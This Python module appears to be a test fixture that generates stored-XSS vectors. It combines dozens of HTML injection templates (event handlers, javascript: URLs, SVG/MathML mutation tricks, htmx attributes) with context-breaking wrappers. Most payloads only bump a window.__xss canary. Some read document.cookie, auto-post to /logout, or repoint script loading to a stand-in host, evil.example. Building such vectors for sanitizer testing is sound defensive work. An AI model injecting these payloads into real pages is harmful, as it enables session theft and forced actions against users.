"""Stored-XSS vectors: each one, if it ever ran, would raise a dialog or bump `window.__xss`."""

from __future__ import annotations

JS = "window.__xss=(window.__xss||0)+1"
TEMPLATES = (
    "<script>{js}</script>",
    '<img src=x onerror="{js}">',
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    '<iframe srcdoc="<script>top.__xss=1</script>"></iframe>',
    '<body onload="{js}">',
    '<details open ontoggle="{js}">',
    '<input autofocus onfocus="{js}">',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}">',
    '<object data="javascript:{js}"></object>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    '<marquee onstart="{js}">x</marquee>',
    "<style>@import 'javascript:{js}';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<embed src="javascript:{js}">',
    '<select autofocus onfocus="{js}"></select>',
    '<textarea autofocus onfocus="{js}"></textarea>',
    '<div style="background:url(javascript:{js})">x</div>',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    '<hx-partial hx-target="body"><img src=x onerror="{js}"></hx-partial>',
    '<div hx-post="/logout" hx-trigger="load">x</div>',
    '<button hx-on:click="{js}">x</button>',
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "{{{{ 7*7 }}}}{{% raw %}}<b>template</b>",
    '<a href="javascript:{js}" id="xss-link">link</a>',
    '<form action="javascript:{js}"><input type=submit></form>',
    '<base href="//evil.example/"><script src=x.js></script>',
    '<img srcset="x 1x" onerror="{js}">',
)
WRAPPERS = ("{v}", '">{v}', "'>{v}", "</textarea></title>--></script>{v}")


def vectors() -> list[str]:
    out = []
    for wrapper in WRAPPERS:
        for template in TEMPLATES:
            out.append(wrapper.format(v=template.format(js=JS)))
    return out
